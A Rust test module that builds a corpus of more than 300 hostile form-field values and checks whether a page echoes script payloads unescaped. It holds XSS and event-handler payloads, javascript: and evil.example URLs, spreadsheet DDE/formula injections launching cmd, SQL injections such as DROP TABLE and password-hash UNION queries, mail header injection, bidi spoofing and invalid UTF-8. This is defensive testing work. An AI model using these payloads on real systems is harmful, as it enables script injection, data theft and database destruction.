//! The hostile-input corpus: values an attacker (or an unlucky paste) puts
//! in a form field. Bytes, not strings, so that invalid and overlong UTF-8
//! can be sent as they are.

/// Every value of the corpus, more than 300: markup and script, event
/// handlers, `javascript:` addresses, spreadsheet formulas, SQL, line
/// breaks and header injection, NUL and other control characters, long
/// fields (10 KB, 1 MB), bidi overrides, invalid and overlong UTF-8, and
/// odd but valid email addresses.
pub fn corpus() -> Vec<Vec<u8>> {
    let mut values: Vec<String> = vec![];
    // Markup and script, each of which runs if a page prints it raw.
    let scripts = [
        "<script>window.__pwned=1</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<script src=//evil.example/x.js></script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<form action=https://evil.example><button>Go</button></form>",
        "<!--<script>alert(1)//-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<%= 7*7 %>",
        "<x onclick=alert(1)>click",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ];
    // Event handlers, in and out of quotes.
    let handlers = [
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "onanimationstart",
        "onbegin",
        "ontoggle",
        "onpointerenter",
        "onwheel",
    ];
    let mut handler_values = vec![];
    for h in handlers {
        handler_values.push(format!("<img src=x {h}=alert(1)>"));
        handler_values.push(format!("\" {h}=\"alert(1)"));
        handler_values.push(format!("' {h}='alert(1)"));
    }
    // Addresses that run script when followed.
    let urls = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example",
        "https://evil.example/@mechelen",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
    ];
    // Spreadsheet formulas: each of = + - @ TAB CR in front.
    let formulas = [
        "=1+1",
        "=HYPERLINK(\"https://evil.example\",\"Click\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(\"https://evil.example\",\"//a\")",
        "+cmd|' /C notepad'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@cmd|'/C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "=WEBSERVICE(\"https://evil.example\")",
        "'=1+1",
    ];
    // SQL metacharacters and injections.
    let sql = [
        "'",
        "''",
        "\"",
        "' OR '1'='1",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "'; DROP TABLE registrations; --",
        "1; DELETE FROM accounts",
        "' UNION SELECT password_hash FROM accounts --",
        "%' AND 1=1 --",
        "_%",
        "\\",
        "\\'",
        "$1",
        "?",
        ":name",
        "1' AND SLEEP(5)#",
        "'; SELECT pg_sleep(5); --",
        "admin'--",
        "') OR ('a'='a",
        "\\x27",
        "/* */",
        "-- ",
        "' || (SELECT sqlite_version()) || '",
        "1e309",
        "-1",
        "99999999999999999999999",
        "0x7FFFFFFF",
        "NaN",
        "null",
    ];
    // Line breaks: header and log injection.
    let lines = [
        "x\r\nBcc: victim@example.org",
        "x\nBcc: victim@example.org",
        "x\rBcc: victim@example.org",
        "Subject\r\n\r\n<html>body</html>",
        "x\r\nContent-Type: text/html",
        "x%0d%0aSet-Cookie: a=b",
        "x\r\nSet-Cookie: convene_session=stolen",
        "line one\u{2028}line two",
        "line one\u{2029}line two",
        "x\u{0085}y",
        "\r\n",
        "\n\n\n",
        "x\r\n.\r\nMAIL FROM:<evil@example.org>",
        "a\x0bb",
        "a\x0cb",
    ];
    // Control characters.
    let controls = [
        "\0",
        "a\0b",
        "\0<script>alert(1)</script>",
        "\x01\x02\x03",
        "\x07bell",
        "\x08back",
        "\x1b[31mred",
        "\x7f",
        "tab\there",
        "\u{feff}bom",
        "\u{200b}zero width",
        "\u{00ad}soft hyphen",
        "\u{fffe}",
        "\u{ffff}",
        "\u{e000}private",
    ];
    // Bidi overrides and isolates: text that reads other than it is.
    let bidi = [
        "\u{202e}gpj.exe",
        "Mayor \u{202e}rotide\u{202c}",
        "\u{202d}ltr override",
        "\u{202a}embed\u{202c}",
        "\u{202b}rtl embed\u{202c}",
        "\u{2066}isolate\u{2069}",
        "\u{2067}rtl isolate\u{2069}",
        "\u{2068}first strong\u{2069}",
        "\u{200e}lrm\u{200f}rlm",
        "بلدية \u{202e}تونس",
        "\u{061c}arabic letter mark",
        "admin\u{202e}@example.org",
    ];
    // Odd but valid (or almost valid) email addresses.
    let emails = [
        "\"john..doe\"@example.org",
        "user+tag@example.org",
        "user.name+tag+sorting@example.com",
        "x@example.com",
        "\"much.more unusual\"@example.com",
        "\"very.unusual.@.unusual.com\"@example.com",
        "other.email-with-hyphen@example.com",
        "fully-qualified-domain@example.com.",
        "example-indeed@strange-example.com",
        "admin@mailserver1",
        "\" \"@example.org",
        "mailhost!username@example.org",
        "user%example.com@example.org",
        "user-@example.org",
        "postmaster@[123.123.123.123]",
        "postmaster@[IPv6:2001:0db8:85a3:0000:0000:8a2e:0370:7334]",
        "_______@example.com",
        "用户@例子.广告",
        "أحمد@مثال.إختبار",
        "Pelé@example.com",
        "a@b.c",
        "AMAL@EXAMPLE.ORG",
        "amal@example.org\r\nBcc: x@example.org",
        "amal@example.org,eve@example.org",
        "amal@example.org; eve@example.org",
        "<amal@example.org>",
        "Amal <amal@example.org>",
        "amal@@example.org",
        ".amal@example.org",
        "amal@example..org",
    ];
    for group in [
        &scripts[..],
        &urls,
        &formulas,
        &sql,
        &lines,
        &controls,
        &bidi,
        &emails,
    ] {
        values.extend(group.iter().map(|v| v.to_string()));
    }
    values.extend(handler_values);
    // Each script again inside ordinary text, where a sloppy filter that
    // only looks at the start would miss it.
    let wrapped: Vec<String> = scripts
        .iter()
        .chain(urls.iter())
        .map(|v| format!("City of Mechelen {v} and partners"))
        .collect();
    values.extend(wrapped);
    // SQL, formulas and bidi controls after ordinary text, where a field's
    // start looks harmless.
    for v in sql.iter().chain(formulas.iter()).chain(bidi.iter()) {
        values.push(format!("Mechelen {v}"));
    }
    // Long fields: just over the limits, 10 KB and 1 MB.
    values.push("a".repeat(201));
    values.push("é".repeat(301));
    values.push("x".repeat(10 * 1024));
    values.push("<b>".repeat(10 * 1024 / 3));
    values.push("y".repeat(1024 * 1024));
    let mut bytes: Vec<Vec<u8>> = values.into_iter().map(String::into_bytes).collect();
    // Invalid and overlong UTF-8 (a slash, a NUL, a "<" in two or three
    // bytes), lone surrogates, and cut sequences.
    let invalid: [&[u8]; 12] = [
        b"\xc0\xaf",
        b"\xc0\x80",
        b"\xc0\xbc script",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xff\xfe",
        b"caf\xc3",
        b"\x80\x81\x82",
        b"\xf8\x88\x80\x80\x80",
        b"ok\xe2\x82",
    ];
    bytes.extend(invalid.iter().map(|b| b.to_vec()));
    bytes
}

/// Whether a page shows a corpus value raw where it must be escaped: a
/// value with a tag appears as it is (it would open the tag), or a value
/// with a double quote appears as it is right at the start of an
/// attribute's value (it would close the attribute and add its own). A
/// quote in text between tags is harmless, and is not escaped there.
pub fn shown_raw(page: &str, value: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(value) else {
        return false;
    };
    if !text.contains("alert") && !text.contains("__pwned") {
        return false;
    }
    (text.contains('<') && page.contains(text))
        || (text.contains('"') && page.contains(&format!("=\"{text}")))
}
